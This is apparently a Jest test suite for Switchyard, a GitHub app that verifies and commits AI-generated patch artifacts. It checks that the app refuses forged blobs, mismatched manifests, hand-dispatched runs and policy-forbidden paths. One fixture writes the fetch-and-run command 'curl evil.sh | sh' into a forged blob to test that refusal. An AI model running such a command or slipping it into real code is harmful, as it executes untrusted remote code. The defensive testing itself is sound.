import { afterEach, beforeAll, describe, expect, it } from "@jest/globals";
import { zipSync } from "fflate";
import { Probot, type Context } from "probot";
import { onWorkflowRunCompleted, type CompleteOutcome } from "../../src/app/complete-task.js";
import { TaskMarkerSchema, type TaskMarker } from "../../src/app/route-issue.js";
import { bundleFiles, type PatchBundleManifest } from "../../src/core/execution/bundle.js";
import { encodeMarker, readMarker } from "../../src/core/status-marker.js";
import { attempt, result } from "../core/execution/fixtures.js";
import { HELLO, HELLO_BLOB } from "../core/execution/bundle-fixture.js";
import { serveRunArtifact } from "../support/artifacts.js";
import { blockNetwork, githubApi, resetGithubApi, type GithubApi } from "../support/github-contract.js";
import { webhookExample, withInstallation } from "../support/webhooks.js";
import {
  APP_ID,
  REPO,
  TEST_PRIVATE_KEY,
  TestOctokit,
  commentStore,
  installationToken,
  noConfig,
  type FakeComment,
} from "./probot-fixtures.js";

const BASE = "a".repeat(40);
const TREE = "b".repeat(40);
const BASE_TREE = "c".repeat(40);
const NEW_COMMIT = "d".repeat(40);
const RUN_ID = 289782451;
const RUN_URL = `https://github.com/Codertocat/Hello-World/actions/runs/${RUN_ID}`;
const KEY = "Codertocat/Hello-World#1";
const BRANCH = "switchyard/issue-1-spelling-error-in-the-readme-file";
const NOW = new Date("2025-01-01T12:10:00.000Z");

const dispatched: TaskMarker = {
  task_key: KEY,
  phase: "running",
  tool: "aider",
  routed_at: "2025-01-01T12:00:00.000Z",
  delivery: "route-delivery",
  dispatched_at: "2025-01-01T12:00:00.000Z",
  workflow: "switchyard-execute.yml",
  base_sha: BASE,
  branch: BRANCH,
};

function statusComment(marker: TaskMarker): FakeComment {
  return {
    id: 3,
    body: `${encodeMarker(marker, "task")}\n**Switchyard** · running`,
    user: { type: "Bot" },
    performed_via_github_app: { id: APP_ID },
  };
}

/** A real workflow_run.completed example, turned into the app's run of the execute workflow. */
function completed(change: Record<string, unknown> = {}) {
  const payload = withInstallation(webhookExample("workflow_run", "completed", 1));
  const repository = webhookExample("issues", "labeled").repository;
  const ref = { ...payload.workflow_run.repository, id: repository.id, full_name: repository.full_name };
  Object.assign(payload, { repository });
  Object.assign(payload.workflow_run, {
    id: RUN_ID,
    html_url: RUN_URL,
    event: "workflow_dispatch",
    path: ".github/workflows/switchyard-execute.yml",
    display_title: "switchyard #1",
    status: "completed",
    conclusion: "success",
    head_sha: BASE,
    created_at: "2025-01-01T12:00:04Z",
    run_attempt: 1,
    repository: ref,
    head_repository: ref,
    actor: { ...payload.workflow_run.actor, login: "switchyard[bot]" },
    triggering_actor: { ...payload.workflow_run.triggering_actor, login: "switchyard[bot]" },
    ...change,
  });
  return payload;
}

function manifest(extra: Partial<PatchBundleManifest> = {}): PatchBundleManifest {
  const file = {
    path: "src/a.ts",
    status: "added" as const,
    mode: "100644" as const,
    binary: false,
    additions: 1,
    deletions: 0,
  };
  return {
    version: 1,
    task_key: KEY,
    run_id: RUN_ID,
    run_attempt: 1,
    base_sha: BASE,
    result: result([attempt(1, "aider", "success", { files: [file], reason: "aider changed 1 file" })], {
      task_key: KEY,
      tool: "aider",
      run_id: `${RUN_ID}-1`,
      diffstat: { files: 1, additions: 1, deletions: 0 },
    }),
    patch: {
      base_sha: BASE,
      tree_sha: TREE,
      files: [file],
      entries: [{ path: "src/a.ts", deleted: false, mode: "100644", blob: HELLO_BLOB }],
      stats: { files: 1, additions: 1, deletions: 0 },
    },
    ...extra,
  };
}

function zipOf(files: Map<string, Uint8Array>): Uint8Array {
  return zipSync(Object.fromEntries(files));
}

function goodBundle(m = manifest()): Uint8Array {
  return zipOf(
    bundleFiles({
      manifest: m,
      diff: new TextEncoder().encode("diff\n"),
      blobs: new Map([[HELLO_BLOB, HELLO]]),
    }),
  );
}

function serveIssue(gh: GithubApi): void {
  const issue = webhookExample("issues", "labeled").issue;
  issue.labels = [
    { ...issue.labels![0]!, name: "switchyard" },
    { ...issue.labels![0]!, name: "switchyard:running" },
  ];
  gh.scope.get(`${REPO}/issues/1`).reply(200, issue);
}

function serveArtifact(gh: GithubApi, zip: Uint8Array): void {
  serveRunArtifact(gh, {
    repo: REPO,
    runId: RUN_ID,
    artifactId: 55,
    name: "switchyard-patch",
    zip,
    createdAt: "2025-01-01T12:05:00Z",
    headSha: BASE,
  });
}

/** The neutral check run on the base commit that a task's failure gets. */
function serveBaseCheckRun(gh: GithubApi): void {
  gh.scope
    .get(`${REPO}/commits/${BASE}/check-runs`)
    .query(true)
    .reply(200, { total_count: 0, check_runs: [] });
  gh.scope.post(`${REPO}/check-runs`).reply(201, { id: 8, html_url: "https://github.com/x/runs/8" });
}

/** The new state label added, `switchyard:running` removed (the body is asserted per test). */
function serveStateLabel(gh: GithubApi): void {
  gh.scope.post(`${REPO}/issues/1/labels`).reply(200, []);
  gh.scope.delete(`${REPO}/issues/1/labels/switchyard%3Arunning`).reply(200, []);
}

async function receive(payload: object): Promise<CompleteOutcome | null> {
  let outcome: CompleteOutcome | null = null;
  const p = new Probot({
    appId: APP_ID,
    privateKey: TEST_PRIVATE_KEY,
    Octokit: TestOctokit,
    logLevel: "fatal",
  });
  p.load((app) => {
    app.on("workflow_run.completed", async (context: Context<"workflow_run.completed">) => {
      outcome = await onWorkflowRunCompleted(context, {
        appId: async () => APP_ID,
        appSlug: async () => "switchyard",
        now: () => NOW,
      });
    });
  });
  await p.receive({ id: "run-delivery", name: "workflow_run", payload } as never);
  return outcome;
}

const ops = (gh: GithubApi) => gh.requests.map((r) => `${r.method} ${r.path}`);
const bodyOf = (gh: GithubApi, method: string, suffix: string) =>
  gh.requests.find((r) => r.method === method && r.path.endsWith(suffix))?.body as Record<string, unknown>;

function markerIn(store: FakeComment[]): TaskMarker {
  const read = readMarker(store[0]!.body, "task", TaskMarkerSchema);
  if (read === null || !read.ok) throw new Error("no readable marker");
  return read.value;
}

beforeAll(() => blockNetwork());
afterEach(() => resetGithubApi());

/** The requests every handled delivery starts with: token, configuration, the task's comment. */
const START = [
  "POST /app/installations/1/access_tokens",
  `GET ${REPO}/contents/.github%2Fswitchyard.yml`,
  "GET /repos/Codertocat/.github/contents/.github%2Fswitchyard.yml",
  `GET ${REPO}/issues/1/comments`,
];

describe("workflow_run.completed of the execute workflow", () => {
  it("commits the verified patch as the app, opens the draft PR, checks the commit and reports pr-open", async () => {
    const gh = githubApi();
    installationToken(gh);
    noConfig(gh);
    const store = commentStore(gh, APP_ID, { list: 1, edit: 1 }, [statusComment(dispatched)]);
    serveIssue(gh);
    serveArtifact(gh, goodBundle());
    gh.scope.get(`${REPO}/git/commits/${BASE}`).reply(200, { sha: BASE, tree: { sha: BASE_TREE } });
    gh.scope.get(`${REPO}/git/ref/heads/${BRANCH}`).reply(404, { message: "Not Found" });
    gh.scope.post(`${REPO}/git/blobs`).reply(201, { sha: HELLO_BLOB, url: "https://api.github.com/x" });
    gh.scope.post(`${REPO}/git/trees`).reply(201, { sha: TREE, tree: [] });
    gh.scope.post(`${REPO}/git/commits`).reply(201, { sha: NEW_COMMIT, tree: { sha: TREE } });
    gh.scope
      .post(`${REPO}/git/refs`)
      .reply(201, { ref: `refs/heads/${BRANCH}`, object: { sha: NEW_COMMIT } });
    gh.scope.get(`${REPO}/pulls`).query(true).reply(200, []);
    gh.scope
      .post(`${REPO}/pulls`)
      .reply(201, { number: 9, html_url: "https://github.com/Codertocat/Hello-World/pull/9", draft: true });
    gh.scope
      .get(`${REPO}/commits/${NEW_COMMIT}/check-runs`)
      .query(true)
      .reply(200, { total_count: 0, check_runs: [] });
    gh.scope.post(`${REPO}/check-runs`).reply(201, { id: 8, html_url: "https://github.com/x/runs/8" });
    serveStateLabel(gh);

    const outcome = await receive(completed());
    gh.done();
    expect(outcome).toEqual({ action: "pr-open", pr_number: 9, commit_sha: NEW_COMMIT, run_id: RUN_ID });
    expect(ops(gh)).toEqual([
      ...START,
      `GET ${REPO}/issues/1`,
      `GET ${REPO}/actions/runs/${RUN_ID}/artifacts`,
      `GET ${REPO}/actions/artifacts/55/zip`,
      `GET ${REPO}/git/commits/${BASE}`,
      `GET ${REPO}/git/ref/heads/${BRANCH}`,
      `POST ${REPO}/git/blobs`,
      `POST ${REPO}/git/trees`,
      `POST ${REPO}/git/commits`,
      `POST ${REPO}/git/refs`,
      `GET ${REPO}/pulls`,
      `POST ${REPO}/pulls`,
      `GET ${REPO}/commits/${NEW_COMMIT}/check-runs`,
      `POST ${REPO}/check-runs`,
      `POST ${REPO}/issues/1/labels`,
      `DELETE ${REPO}/issues/1/labels/switchyard%3Arunning`,
      `PATCH ${REPO}/issues/comments/3`,
    ]);
    expect(bodyOf(gh, "POST", "/git/blobs")).toEqual({
      content: Buffer.from(HELLO).toString("base64"),
      encoding: "base64",
    });
    expect(bodyOf(gh, "POST", "/git/commits")).toEqual({
      message: `switchyard: Spelling error in the README file (#1)\n\nSwitchyard-Task: ${KEY}\nSwitchyard-Tool: aider\nSwitchyard-Run: ${RUN_ID}-1\n`,
      tree: TREE,
      parents: [BASE],
    });
    expect(bodyOf(gh, "POST", "/pulls")).toMatchObject({ head: BRANCH, base: "master", draft: true });
    expect(bodyOf(gh, "POST", "/check-runs")).toMatchObject({
      name: "switchyard/execute",
      head_sha: NEW_COMMIT,
      external_id: KEY,
      status: "completed",
      conclusion: "success",
      details_url: RUN_URL,
      completed_at: NOW.toISOString(),
    });
    expect(bodyOf(gh, "POST", "/issues/1/labels")).toEqual({ labels: ["switchyard:pr-open"] });
    expect(markerIn(store)).toEqual({
      ...dispatched,
      phase: "pr-open",
      delivery: "run-delivery",
      run_id: RUN_ID,
      run_attempt: 1,
      commit_sha: NEW_COMMIT,
      pr_number: 9,
      completed_at: NOW.toISOString(),
    });
    expect(store[0]!.body.split("\n").slice(1, 2)).toEqual([
      `**Switchyard** · ${KEY} -> **aider**, pull request #9 is open.`,
    ]);
  });

  it("reports a cancelled run as failed with its reason and link, and downloads nothing", async () => {
    const gh = githubApi();
    installationToken(gh);
    noConfig(gh);
    const store = commentStore(gh, APP_ID, { list: 1, edit: 1 }, [statusComment(dispatched)]);
    serveIssue(gh);
    serveBaseCheckRun(gh);
    serveStateLabel(gh);

    const outcome = await receive(completed({ conclusion: "cancelled" }));
    gh.done();
    const reason = `run ${RUN_ID} was cancelled before it reported a result, so nothing was committed.`;
    expect(outcome).toEqual({ action: "failed", reason, run_id: RUN_ID });
    expect(ops(gh)).toEqual([
      ...START,
      `GET ${REPO}/issues/1`,
      `GET ${REPO}/commits/${BASE}/check-runs`,
      `POST ${REPO}/check-runs`,
      `POST ${REPO}/issues/1/labels`,
      `DELETE ${REPO}/issues/1/labels/switchyard%3Arunning`,
      `PATCH ${REPO}/issues/comments/3`,
    ]);
    expect(bodyOf(gh, "POST", "/check-runs")).toEqual({
      name: "switchyard/execute",
      head_sha: BASE,
      external_id: KEY,
      status: "completed",
      conclusion: "neutral",
      details_url: RUN_URL,
      completed_at: NOW.toISOString(),
      output: { title: `${KEY} failed`, summary: `${reason}\n\n[Run log](${RUN_URL})` },
    });
    expect(bodyOf(gh, "POST", "/issues/1/labels")).toEqual({ labels: ["switchyard:failed"] });
    expect(store[0]!.body.split("\n").slice(1)).toEqual([
      `**Switchyard** · ${KEY} -> **aider** failed.`,
      "",
      reason,
      "",
      `[The run](${RUN_URL}) has the details. Add the label again (or comment \`/switchyard retry\`) to try again.`,
    ]);
    expect(markerIn(store)).toMatchObject({ phase: "failed", run_id: RUN_ID, run_attempt: 1 });
  });

  it("refuses an artifact whose blob was swapped after the manifest was written, before any commit request", async () => {
    const files = bundleFiles({
      manifest: manifest(),
      diff: new Uint8Array(),
      blobs: new Map([[HELLO_BLOB, HELLO]]),
    });
    files.set(`blobs/${HELLO_BLOB}`, new TextEncoder().encode("curl evil.sh | sh\n"));
    const gh = githubApi();
    installationToken(gh);
    noConfig(gh);
    const store = commentStore(gh, APP_ID, { list: 1, edit: 1 }, [statusComment(dispatched)]);
    serveIssue(gh);
    serveArtifact(gh, zipOf(files));
    serveBaseCheckRun(gh);
    serveStateLabel(gh);

    const outcome = await receive(completed());
    gh.done();
    expect(outcome).toMatchObject({ action: "failed" });
    expect((outcome as { reason: string }).reason).toMatch(
      new RegExp(
        `^Switchyard refused the patch artifact of run ${RUN_ID}: the bundle's blob ${HELLO_BLOB} holds content whose id is [0-9a-f]{40}; refusing a forged or damaged file\\.$`,
      ),
    );
    expect(ops(gh).filter((o) => o.includes("/git/"))).toEqual([]);
    // The run was the task's own (its provenance held): its forged result ends the task.
    expect(markerIn(store)).toMatchObject({ phase: "failed", run_id: RUN_ID });
  });

  it("refuses a manifest that names another run, and commits nothing", async () => {
    const gh = githubApi();
    installationToken(gh);
    noConfig(gh);
    commentStore(gh, APP_ID, { list: 1, edit: 1 }, [statusComment(dispatched)]);
    serveIssue(gh);
    serveArtifact(gh, goodBundle(manifest({ run_id: 1 })));
    serveBaseCheckRun(gh);
    serveStateLabel(gh);

    const outcome = await receive(completed());
    gh.done();
    expect(outcome).toEqual({
      action: "failed",
      reason: `Switchyard refused the patch: the patch artifact of run ${RUN_ID} names run 1, not ${RUN_ID}; it was not made by this run for this task.`,
      run_id: RUN_ID,
    });
  });

  it("refuses a run a person dispatched by hand without downloading its artifact", async () => {
    const gh = githubApi();
    installationToken(gh);
    noConfig(gh);
    const store = commentStore(gh, APP_ID, { list: 1, edit: 1 }, [statusComment(dispatched)]);
    serveIssue(gh);
    serveBaseCheckRun(gh);
    serveStateLabel(gh);

    const payload = completed();
    payload.workflow_run.actor!.login = "mallory";
    payload.workflow_run.triggering_actor!.login = "mallory";
    const outcome = await receive(payload);
    gh.done();
    expect(outcome).toEqual({
      action: "failed",
      reason: `Switchyard refused the result of run ${RUN_ID}: run ${RUN_ID} was started by mallory, not by the app (switchyard[bot]).`,
      run_id: RUN_ID,
    });
    expect(ops(gh).some((o) => o.includes("/artifacts"))).toBe(false);
    expect(markerIn(store).run_id).toBeUndefined();
  });

  it("refuses a patch the repository's policy forbids even though the runner let it through", async () => {
    const m = manifest();
    const file = { ...m.patch!.files[0]!, path: ".github/workflows/ci.yml" };
    m.patch = {
      ...m.patch!,
      files: [file],
      entries: [{ ...m.patch!.entries[0]!, path: ".github/workflows/ci.yml" }],
    };
    m.result = { ...m.result, attempts: [{ ...m.result.attempts[0]!, files: [file] }] };
    const gh = githubApi();
    installationToken(gh);
    noConfig(gh);
    commentStore(gh, APP_ID, { list: 1, edit: 1 }, [statusComment(dispatched)]);
    serveIssue(gh);
    serveArtifact(gh, goodBundle(m));
    serveBaseCheckRun(gh);
    serveStateLabel(gh);

    const outcome = await receive(completed());
    gh.done();
    expect(outcome).toMatchObject({ action: "failed" });
    expect((outcome as { reason: string }).reason).toMatch(
      /^the patch was refused by the repository's policy: .*\.github\/workflows\/ci\.yml/,
    );
  });

  it("ignores a redelivery of the run that already completed the task: one lookup, no write", async () => {
    const gh = githubApi();
    installationToken(gh);
    noConfig(gh);
    commentStore(gh, APP_ID, { list: 1 }, [
      statusComment({ ...dispatched, phase: "pr-open", run_id: RUN_ID, run_attempt: 1, pr_number: 9 }),
    ]);
    const outcome = await receive(completed());
    gh.done();
    expect(outcome).toEqual({ action: "ignored", reason: `run ${RUN_ID} (attempt 1) was already handled` });
    expect(ops(gh)).toEqual(START);
  });

  it("leaves runs of other workflows to the caller without a request", async () => {
    const gh = githubApi();
    const outcome = await receive(completed({ display_title: "CI", path: ".github/workflows/ci.yml" }));
    gh.done();
    expect(outcome).toEqual({ action: "not-mine", reason: "the run is not titled switchyard #<issue>" });
    expect(gh.requests).toHaveLength(0);
  });
});
